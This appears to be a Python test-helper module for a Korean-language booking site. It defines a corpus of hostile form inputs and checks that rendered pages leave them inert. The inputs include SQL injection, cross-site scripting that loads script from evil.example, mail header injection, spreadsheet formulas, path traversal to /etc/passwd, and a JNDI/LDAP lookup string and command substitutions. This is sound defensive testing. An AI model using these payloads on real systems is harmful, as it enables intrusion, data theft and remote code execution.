"""What people who mean harm type into fields, and how to tell that it came to nothing."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import quote_plus, urlsplit

import html5lib

EVIL = "evil.example"
PAYLOADS = {
    "sql": "'; DROP TABLE booking; --",
    "sql-union": "' UNION SELECT email FROM booking--",
    "like": "%_%s%(x)s%%%n",
    "jinja": "{{ 31*1234567 }}{% raw %}{{ config }}${31*1234567}",
    "nul": "널\x00문자\x00",
    "script": f"<script src=//{EVIL}/x.js></script><ScRiPt>evil()</sCrIpT>",
    "svg": '"><svg/onload=evil()><img src=x onerror=evil()>',
    "attribute": "' onmouseover='evil()\" autofocus onfocus=\"evil()",
    "closing": "</textarea></title></style></option></select><iframe src=javascript:evil()>",
    "anchor": f"<a href=https://{EVIL}>여기를 누르세요</a>",
    "markdown": f"[로그인](https://{EVIL}) **굵게** # 제목",
    "address": f"https://{EVIL}/login www.{EVIL} {EVIL}/a hong@{EVIL}",
    "wide-address": "https：／／evil。example",
    "scheme": "javascript:evil()",
    "header": f"안녕\r\nBcc: victim@{EVIL}\r\nContent-Type: text/html\r\n\r\n<script>evil()</script>",
    "lines": "안녕\u2028Bcc: a@b.kr\u2029\x85\x0b\x0cX: 1",
    "calendar": "모임\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:https://evil.example\\n;,:",
    "bidi": "\u202eexe.gnp\u2066\u200f\u200b\ufeff",
    "formula": '=HYPERLINK("https://evil.example";"여기")',
    "formula-wide": "＝1+1",
    "plus": "+1+1",
    "at": "@SUM(1)",
    "huge-number": "9" * 60,
    "exponent": "-1e9999",
    "surrogate": "짝\ud800 없는\udfff",
    "noncharacter": "\ufffe\uffff\U0010ffff",
    "combining": "a" + "\u0301" * 60,
    "emoji": "👩‍👩‍👧‍👦" * 6,
    "path": "../../../../etc/passwd\\..\\",
    "shell": "`id` $(id) | id ; ${jndi:ldap://evil.example/a}",
    "blank": "\u3164\u200b",
}
GROUPS = [list(PAYLOADS.values())[first::3] for first in range(3)]
"""Parts of the corpus that are tried one after the other on one database."""


class _Tags(HTMLParser):
    """The tags as a careless reader sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note the tag."""
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def tags_of(page: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Every element that a browser makes of a page, and every one that a careless parser does."""
    for element in html5lib.parse(page, namespaceHTMLElements=False).iter():
        if isinstance(element.tag, str):
            yield element.tag, dict(element.attrib)
    careless = _Tags()
    careless.feed(page)
    yield from careless.found


def ensure_dead(page: str, where: str) -> None:
    """Nothing of what was typed lives in a page: no element, no attribute, no address, no computed value."""
    assert "\x00" not in page, where
    assert str(31 * 1234567) not in page, where
    for tag, attributes in tags_of(page):
        assert tag not in {"iframe", "object", "embed", "base"}, (where, tag)
        assert tag not in {"script", "img"} or attributes.get("src", "").startswith("/static/"), (where, attributes)
        for name, value in attributes.items():
            assert not name.startswith("on"), (where, name)
            if name in {"href", "src", "action", "formaction", "style", "srcdoc", "content", "data"}:
                assert EVIL not in urlsplit(value.replace("\\", "/")).netloc, (where, value)
                assert not value.strip().casefold().startswith(("javascript:", "data:", "vbscript:")), (where, value)


AUTOLINKED = re.compile(r"\w+://\S|www\.\w|[\w-]+[.。][a-z]{2,}|[:：][/／]{2}\S", re.IGNORECASE)
"""What mail programs make a link of by themselves."""


def urlencoded(form: dict[str, str]) -> bytes:
    """A form as bytes, half surrogates included."""
    return "&".join(
        f"{name}={quote_plus(value.encode('utf-8', 'surrogatepass'))}" for name, value in form.items()
    ).encode()
